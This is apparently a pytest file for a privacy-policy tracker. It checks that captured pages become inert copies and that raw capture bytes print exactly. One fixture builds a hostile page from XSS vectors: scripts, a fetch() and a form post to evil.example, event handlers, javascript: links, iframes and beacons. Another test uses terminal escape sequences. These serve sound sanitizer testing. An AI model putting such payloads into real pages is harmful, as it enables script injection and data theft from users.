"""Evidence you can open: each capture the reports cite links to a copy of what was captured
(the archive's page, or an inert copy kept with the reports), and `tracker capture` prints a
stored capture, its exact bytes or its text."""

from __future__ import annotations

import hashlib
import os
import pty
import re
import subprocess
import sys

from click.testing import CliRunner
from conftest import Page, policy_html, run_cli, write_config
from test_report import DEMO_WARC, KROP, backfilled, demo_change_page, render, visit_all
from warcio.archiveiterator import ArchiveIterator

from tracker.cli import cli
from tracker.models import NewCapture
from tracker.api import Tracker

EVIL = "https://evil.example"


def hostile_page(beacon: str) -> bytes:
    """A policy page that tries everything a copy must not do: run script, load from elsewhere
    (the web, and the test server itself: ``beacon``), send a form, refresh to another page."""
    head = f"""<meta http-equiv="refresh" content="0; url={EVIL}/refreshed"><base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/sheet.css"><script src="{EVIL}/x.js"></script>
<script>window.__xss = 1; fetch("{EVIL}/fetched")</script>
<style>@import url({EVIL}/imported.css); p {{ background: url("{beacon}?css") }}</style></head>"""
    extra = f"""<h2>5. Hostile</h2><p style="background:url({EVIL}/inline.png)">Images
<img src="{beacon}?img" srcset="{EVIL}/2x.png 2x" alt="the beacon" onerror="window.__xss = 2" width="4000">
<a href="javascript:window.__xss = 3">javascript link</a> <a href="/terms">our terms</a>
<q cite="javascript:window.__xss = 7">quoted</q> <blockquote cite="{EVIL}/cited">quoted at length</blockquote>
<svg onload="window.__xss = 4"><image href="{EVIL}/svg.png"/></svg></p>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__xss = 5&lt;/script&gt;"></iframe>
<form action="{EVIL}/steal" method="post"><input name="email" value="you@example.com"><button>Send</button></form>
<table background="{beacon}?table"><tr><td>Cookie</td><td>Purpose</td></tr></table>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><video poster="{beacon}?poster" src="{EVIL}/v.mp4"></video>"""
    page = policy_html(extra=extra).decode()
    return page.replace("</head>", head).replace("<body>", '<body onload="window.__xss = 6">').encode()


INERT = """() => ({
  xss: window.__xss === undefined ? null : window.__xss,
  banner: document.querySelector('.capture-banner') && document.querySelector('.capture-banner').innerText,
  visible: !!document.querySelector('.capture-banner') && document.querySelector('.capture-banner').getBoundingClientRect().height > 0,
  text: document.querySelector('.captured').innerText,
  dangerous: document.querySelectorAll('script, iframe, form, input, button, object, embed, video, svg, base, link, '
    + 'style:not(head style), meta[http-equiv="refresh"], [style], [srcset], [background], [poster], img[src], '
    + '[cite]').length,
  links: [...document.querySelectorAll('.captured a[href]')].map(a => a.getAttribute('href')),
  images: [...document.querySelectorAll('.captured img')].map(img => img.alt),
  url: location.href,
})"""


def open_recorded(browser, url: str, width: int = 1280) -> tuple[dict, list[str]]:
    """A page opened in Chromium with every request it makes recorded (and any that would leave
    the file system refused), and what it shows."""
    context = browser.new_context(viewport={"width": width, "height": 900})
    requests: list[str] = []
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort())
    page = context.new_page()
    page.on("request", lambda request: requests.append(request.url))
    page.goto(url)
    seen = page.evaluate(INERT)
    context.close()
    return seen, requests


def test_a_hostile_live_capture_is_copied_inert_and_opens_in_chromium(tmp_path, site, browser):
    served = hostile_page(site.url("/beacon.png"))
    site.pages["/privacy"] = Page(served)
    config = write_config(tmp_path, [{"name": "acme", "urls": [site.url("/privacy")]}])
    assert run_cli(config, "check").exit_code == 0
    out = tmp_path / "reports"
    render(config, out)
    asked = len(site.requests)

    version = (out / "acme" / "version-1.html").read_text()
    assert 'href="captures/1.html"' in version and hashlib.sha256(served).hexdigest() in version
    copy = out / "acme" / "captures" / "1.html"
    visit_all(browser, out, sorted(out.rglob("*.html")), tmp_path / "screenshots")  # 1280 and 390 px

    seen, requests = open_recorded(browser, copy.as_uri())
    assert seen["xss"] is None and seen["dangerous"] == 0 and seen["url"] == copy.as_uri()
    assert requests == [copy.as_uri()]  # nothing loaded, from the web or from 127.0.0.1
    assert len(site.requests) == asked  # the test server was never asked for its beacon
    assert seen["visible"] and site.url("/privacy") in seen["banner"]
    assert hashlib.sha256(served).hexdigest() in seen["banner"] and "from a live fetch by policy-tracker" in seen["banner"]
    assert re.search(r"captured on \d{4}-\d\d-\d\d \d\d:\d\d UTC", seen["banner"])
    assert "3. Retention" in seen["text"] and seen["images"] == ["the beacon"]  # the text, and an image's alt
    assert "you@example.com" not in seen["text"] and "Send" not in seen["text"]
    assert seen["links"] == [site.url("/"), site.url("/blog"), site.url("/terms")]  # relative links lead to the site

    result = CliRunner().invoke(cli, ["--config", str(config), "capture", "1", "--raw"])
    assert result.exit_code == 0 and result.stdout_bytes == served


def test_capture_raw_refuses_to_write_fetched_bytes_to_a_terminal(tmp_path, site):
    site.pages["/privacy"] = Page(policy_html(extra="<p>\x1b]2;owned\x07\x1b[2J</p>"))  # a title, a cleared screen
    config = write_config(tmp_path, [{"name": "acme", "urls": [site.url("/privacy")]}])
    assert run_cli(config, "check").exit_code == 0
    leader, follower = pty.openpty()
    try:
        done = subprocess.run([sys.executable, "-m", "tracker", "--config", str(config), "capture", "1", "--raw"],
                              stdout=follower, stderr=subprocess.PIPE, timeout=30, cwd=tmp_path)
        os.close(follower)
        shown = b""
        while True:
            try:  # what reached the terminal; EIO once it is all read and the terminal closed
                shown += os.read(leader, 65536)
            except OSError:
                break
    finally:
        os.close(leader)
    assert done.returncode == 1 and shown == b""
    assert done.stderr.decode() == ("error: --raw writes the stored bytes: redirect it to a file, "
                                    "e.g. > capture-1.html\n")


def test_a_pdf_capture_gets_a_note_and_its_exact_bytes_a_text_capture_its_text(tmp_path, site):
    pdf = b"%PDF-1.4\r\n%\xe2\xe3\xcf\xd3\r\n1 0 obj\n<< /Type /Catalog >>\x00\xff\nendobj\n%%EOF\n"
    site.pages["/privacy.pdf"] = Page(pdf, headers={"Content-Type": "application/pdf"})
    text_policy = b"Privacy policy\n\n1. Data\nWe keep <script>window.__xss = 1</script> personal data for 30 days.\n" * 20
    site.pages["/privacy.txt"] = Page(text_policy, headers={"Content-Type": "text/plain; charset=utf-8"})
    config = write_config(tmp_path, [{"name": "acme", "urls": [site.url("/privacy.pdf")]},
                                     {"name": "notes", "urls": [site.url("/privacy.txt")]}])
    assert run_cli(config, "check").exit_code == 0
    out = tmp_path / "reports"
    render(config, out)
    shown = (out / "notes" / "captures" / "2.html").read_text()
    assert "<pre>Privacy policy\n\n1. Data\nWe keep &lt;script&gt;window.__xss = 1&lt;/script&gt; personal" in shown
    copy = (out / "acme" / "captures" / "1.html").read_text()
    assert "A PDF, not shown here" in copy and "tracker capture 1 --raw &gt; capture-1.pdf" in copy
    assert hashlib.sha256(pdf).hexdigest() in copy
    result = CliRunner().invoke(cli, ["--config", str(config), "capture", "1", "--raw"])
    assert result.exit_code == 0 and result.stdout_bytes == pdf  # binary safe: no newline added, none translated
    text = run_cli(config, "capture", "1", "--text")
    assert text.exit_code == 1 and text.stderr.count("\n") == 1
    assert "a pdf file, whose text this tool does not read yet" in text.stderr


def test_the_demo_change_page_links_both_captures_to_copies_that_open(tmp_path, browser):
    out, context, page = demo_change_page(tmp_path, browser)
    change = next((out / "krop").glob("change-*.html"))
    cited = page.evaluate("""() => [...document.querySelectorAll('dl.evidence')].map(dl => ({
        copy: dl.querySelector('a[href^="captures/"]').getAttribute('href'),
        text: dl.innerText}))""")
    context.close()
    assert [c["copy"] for c in cited] == ["captures/5.html", "captures/7.html"]  # the last old, the first new
    for evidence, policy_words in zip(cited, ("INFORMATION WE COLLECT", "KRROP")):
        sha256 = re.search(r"[0-9a-f]{64}", evidence["text"]).group()
        assert "krop-demo.warc.gz, record at offset" in evidence["text"]
        seen, requests = open_recorded(browser, (change.parent / evidence["copy"]).as_uri(), width=390)
        assert requests == [(change.parent / evidence["copy"]).as_uri()] and seen["xss"] is None
        assert seen["visible"] and sha256 in seen["banner"] and "krop-demo.warc.gz" in seen["banner"]
        assert str(DEMO_WARC.parent) not in seen["banner"] + evidence["text"]  # where it lies here is private
        assert policy_words in seen["text"]
    assert "2019-07-01 12:00 UTC" in cited[0]["text"] and "2025-06-03 09:30 UTC" in cited[1]["text"]


def test_archived_captures_link_to_the_archive_not_to_a_copy(tmp_path):
    config = write_config(tmp_path, [{"name": "acme", "urls": ["https://acme.example/privacy"], "live": False}])
    tracker = Tracker(config)
    for stamp, retention in (("20210110100000", "30 days"), ("20220110100000", "1 year")):
        raw = f"https://web.archive.org/web/{stamp}id_/https://acme.example/privacy"
        tracker.store.captures.add(NewCapture("acme", "https://acme.example/privacy", f"{stamp[:4]}-01-10T10:00:00.000Z", "ia",
                                      200, None, "2026-01-01T00:00:00.000Z", "text/html", "utf-8",
                                      archive_url=raw), policy_html(retention=retention))
    tracker.close()
    assert run_cli(config, "rebuild").exit_code == 0
    out = tmp_path / "reports"
    render(config, out)
    change = next((out / "acme").glob("change-*.html")).read_text()
    assert 'href="https://web.archive.org/web/20210110100000/https://acme.example/privacy"' in change
    assert 'href="https://web.archive.org/web/20210110100000id_/https://acme.example/privacy"' in change
    assert 'href="https://web.archive.org/web/20220110100000/https://acme.example/privacy"' in change
    assert "the Internet Archive (web.archive.org)" in change
    assert not (out / "acme" / "captures").exists()


def test_tracker_capture_prints_a_summary_its_text_and_its_exact_bytes(tmp_path):
    config = backfilled(tmp_path, KROP, f"warc:{DEMO_WARC}")
    captures = run_cli(config, "export", "krop", "--json").stdout
    assert '"id": 6' in captures

    summary = run_cli(config, "capture", "6")
    assert summary.exit_code == 0
    assert "capture 6 of krop" in summary.out and "HTTP 301" in summary.out and "flags archived-redirect" in summary.out
    assert "redirect 301 https://www.krop.com/privacy -> https://krrop.com/trust" in summary.out
    assert "rejected HTTP 301" in summary.out and "krop-demo.warc.gz#5860" in summary.out
    shown = run_cli(config, "capture", "5").out
    assert "version 1" in shown and "captured 2019-07-01 12:00 UTC" in shown and "source warc" in shown

    text = run_cli(config, "capture", "7", "--text")
    assert text.exit_code == 0 and "KRROP" in text.out and "<" not in text.out  # the text, not the markup

    for capture, offset in ((7, 6221), (5, 2735)):  # capture 5 is a revisit record: the body of the one at 2735
        raw = CliRunner().invoke(cli, ["--config", str(config), "capture", str(capture), "--raw"])
        with DEMO_WARC.open("rb") as warc:
            warc.seek(offset)
            served = next(iter(ArchiveIterator(warc))).content_stream().read()
        assert raw.exit_code == 0 and raw.stdout_bytes == served and len(served) > 1000
    assert hashlib.sha256(served).hexdigest() in shown

    unknown = run_cli(config, "capture", "999")
    assert unknown.exit_code == 1 and unknown.stderr.startswith("error: no capture 999") and unknown.stderr.count("\n") == 1
    too_big = run_cli(config, "capture", "99999999999999999999")  # more than SQLite's integers hold
    assert too_big.exit_code == 2 and "Invalid value for 'ID': 99999999999999999999 is not in the range" in too_big.stderr
    both = run_cli(config, "capture", "5", "--raw", "--text")
    assert both.exit_code == 2 and "choose one" in both.stderr
    error_page = run_cli(config, "capture", "4", "--text")  # the archived 503
    assert error_page.exit_code == 1 and "HTTP 503 answer" in error_page.stderr


def test_a_copy_is_written_once_and_live_checks_of_the_same_text_write_no_copy(tmp_path, site):
    site.pages["/privacy"] = Page(policy_html())
    config = write_config(tmp_path, [{"name": "acme", "urls": [site.url("/privacy")]}])
    out = tmp_path / "reports"
    copies = out / "acme" / "captures"
    assert run_cli(config, "check").exit_code == 0
    render(config, out)
    first = (copies / "1.html").stat().st_mtime_ns

    for capture in (2, 3):  # the same text: each check is the version's new last capture
        assert run_cli(config, "check").exit_code == 0
        line = render(config, out)
        assert sorted(p.name for p in copies.iterdir()) == ["1.html"] and "removed" not in line
        version = (out / "acme" / "version-1.html").read_text()
        last = re.search(r"<dl class=\"evidence\">.*?</dl>", version.split("last capture of this version")[1], re.S)[0]
        assert f"tracker capture {capture}</code>" in last and "none kept with these reports" in last
        assert 'href="captures/' not in last and re.search(r"[0-9a-f]{64}", last)  # cited by its hash
    assert (copies / "1.html").stat().st_mtime_ns == first  # written once

    site.pages["/privacy"] = Page(policy_html(retention="90 days"))
    assert run_cli(config, "check").exit_code == 0  # capture 4: version 2; the change ends at 3 and 4
    render(config, out)
    assert sorted(p.name for p in copies.iterdir()) == ["1.html", "3.html", "4.html"]
    assert 'href="captures/3.html"' in (out / "acme" / "version-1.html").read_text()  # kept for the change
    assert run_cli(config, "check").exit_code == 0
    line = render(config, out)
    assert sorted(p.name for p in copies.iterdir()) == ["1.html", "3.html", "4.html"] and "removed" not in line
    assert (copies / "1.html").stat().st_mtime_ns == first


def test_a_page_nested_too_deep_is_copied_as_its_text():
    # 100,000 nested elements in a megabyte took the sanitizer minutes: such a copy is text.
    from tracker import copies
    deep = b"<html><body><h1>Policy</h1><p>We keep data for 30 days." + b"<div>" * 100_000 + b"<b>end</b>" + \
        b"</div>" * 100_000 + b"<script>alert(1)</script></body></html>"
    assert copies.nesting(deep.decode()) > copies.MAX_NESTING and copies.inert_html(deep, "utf-8", "https://a.example/") is None
    text = copies.text_of_html(deep, "utf-8")
    assert "We keep data for 30 days." in text and "end" in text and "alert" not in text and "<" not in text
    # a real page, with its implied end tags, nests a few levels and is copied as HTML
    page = b"<html><body><main><p>One<p>Two<ul><li>a<li>b</ul><br><img src=x></main></body></html>"
    assert copies.nesting(page.decode()) == 4 and "Two" in copies.inert_html(page, "utf-8", "https://a.example/")
